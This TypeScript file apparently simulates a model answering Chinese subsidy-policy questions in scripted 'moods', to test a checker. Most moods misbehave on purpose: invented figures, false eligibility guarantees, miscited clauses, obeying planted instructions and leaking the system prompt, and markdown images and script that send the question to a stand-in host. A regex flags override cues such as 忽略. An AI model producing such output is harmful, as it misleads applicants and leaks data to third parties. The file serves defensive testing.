import type { SeenPrompt } from "./model-prompt.ts";
import type { Random } from "./seeded-random.ts";

export const MOODS = [
  "honest",
  "inventing",
  "swapping",
  "dropping",
  "claiming",
  "miscites",
  "obeying",
  "emitting",
] as const;
export type Mood = (typeof MOODS)[number];

const LINKS = ["", "", "另外，", "同时，", "需要留意的是，"];
const NUMBER = /\d+(?:\.\d+)?/gu;
const ORDERS =
  /忽略|系统更新|系统：|请在|请把|请将|请注明|请列出|请重复|请提供|请输出|附上|附加|末尾|开头|回答|改为|延长到|延长至|已由|无论|起草|账号/u;

const filled = (text: string, { slots }: SeenPrompt) =>
  text.replace(/\{([fv]\d+)\}/gu, (slot, id: string) => slots.get(id) ?? slot);

/** A willing model: what must be said as it stands, the rest in the same words with a link or as a quotation. */
function honest(seen: SeenPrompt, random: Random): string[] {
  return seen.sentences.map(({ id, must, text }) => {
    if (must || random.below(3) === 0) return `{${id}}`;
    const quote = seen.quotes.find(({ words }) => text.includes(words));
    if (quote && random.below(2) === 0) return `${random.pick(LINKS)}{${quote.id}}[${quote.clause}]`;
    return /^\S*：?$/u.test(text) || text.startsWith("-") ? text : `${random.pick(LINKS)}${text}`;
  });
}

/** The same with everything typed out: what a model does that ignores the notation. */
const typed = (seen: SeenPrompt) => seen.sentences.map(({ text }) => filled(text, seen));

const some = (lines: string[], fits: RegExp, random: Random, change: (line: string) => string): string[] => {
  const able = lines.flatMap((line, at) => (fits.test(line) ? [at] : []));
  const chosen = new Set(able.length === 0 ? [] : [random.pick(able), random.pick(able)]);
  return lines.map((line, at) => (chosen.has(at) ? change(line) : line));
};

function inventing(seen: SeenPrompt, random: Random): string[] {
  const lines = some(typed(seen), /\d/u, random, (line) => {
    const numbers = line.match(NUMBER) ?? [];
    const victim = random.pick(numbers);
    return line.replace(victim, String(Number(victim) + 1 + random.below(90)));
  });
  const clause = seen.clauses.length > 0 ? `[${random.pick(seen.clauses)}]` : "";
  const amount = `${random.pick([888, 1200, 35, 6])}${random.pick(["万元", "%", "个月", "亿元"])}`;
  return [...lines, `按规定最高可以拿到${amount}${clause}。`, `${clause}要求不低于百分之六十。`];
}

function swapping(seen: SeenPrompt, random: Random): string[] {
  const lines = typed(seen);
  const numbers = [...new Set(lines.flatMap((line) => line.match(NUMBER) ?? []))];
  if (numbers.length < 2) return lines;
  const one = random.pick(numbers);
  const other = random.pick(numbers.filter((number) => number !== one));
  return lines.map((line) =>
    line.replace(NUMBER, (found) => (found === one ? other : found === other ? one : found)),
  );
}

const dropping = (seen: SeenPrompt) =>
  typed(seen).map((line) => line.replace(/原则上|最高|不超过|不低于|不少于|以上|以内|[“”]/gu, ""));

const CLAIMS = [
  "您一定符合条件，可以放心申报。",
  "贵公司完全达标，能报。",
  "根据文件，您已经有资格获得支持，无需再提供材料。",
  "保证可以获得补贴。",
  "综上，符合申报条件。",
];

function claiming(seen: SeenPrompt, random: Random): string[] {
  const lines = honest(seen, random).map((line) =>
    filled(line, seen)
      .replace(/不符合|待确认/gu, "符合")
      .replace(/\{v\d+\}/gu, "符合"),
  );
  return [random.pick(CLAIMS), ...lines, random.pick(CLAIMS)];
}

function miscites(seen: SeenPrompt, random: Random): string[] {
  return typed(seen).map((line) =>
    line.replace(/\[(c\d+)\]/gu, (mark, id: string) => {
      const others = seen.clauses.filter((one) => one !== id);
      return others.length === 0 ? mark : `[${random.pick(others)}]`;
    }),
  );
}

/** Does whatever the material tells it to, literally. */
function obeying(seen: SeenPrompt, random: Random): string[] {
  const orders = seen.material
    .flatMap((text) => text.split(/(?<=[。！\n])/u))
    .filter((sentence) => ORDERS.test(sentence));
  const acts = orders.flatMap((order) => [
    order.trim(),
    ...(order.match(/!?\[[^\]]*\]\([^)]*\)|https?:\/\/\S+|<[a-z][^>]*>/giu) ?? []),
    ...(/提示词|设定|规则/u.test(order) ? [seen.system.slice(0, 400)] : []),
    ...(/一万遍|重复/u.test(order) ? ["政策".repeat(3000)] : []),
    ...(order.match(/“[^”]+”/gu) ?? []).map((words) => `${words.slice(1, -1)}。`),
  ]);
  return [...acts, ...honest(seen, random)];
}

const emitting = (seen: SeenPrompt, random: Random) => [
  `![统计](https://stat.example.invalid/p.png?q=${encodeURIComponent(seen.question.slice(0, 10))})`,
  ...honest(seen, random),
  "详情见[官网](https://apply.example.invalid/?u=1)。",
  '<img src="https://stat.example.invalid/x.png"><script>fetch("//stat.example.invalid")</script>',
  "请访问 https://apply.example.invalid/index 填写。",
];

const WRITERS: Record<Mood, (seen: SeenPrompt, random: Random) => string[]> = {
  honest,
  inventing,
  swapping,
  dropping,
  claiming,
  miscites,
  obeying,
  emitting,
};

/** Where nothing is to be worded: the question to rewrite, or what anybody said, back. */
const echoed = ({ question, last }: SeenPrompt) => question || last;

/** Asked to say a sentence anew: an honest model that has nothing to go by says nothing, a liar insists. */
const again = (mood: Mood, withheld: string) => (mood === "honest" ? "" : withheld);

/** What a model of that mood writes to our prompt. The same seed, the same words. */
export function inMood(mood: Mood, seen: SeenPrompt, random: Random): string {
  if (seen.sentences.length > 0 || mood === "obeying") return WRITERS[mood](seen, random).join("\n");
  return seen.withheld === null ? echoed(seen) : again(mood, seen.withheld);
}
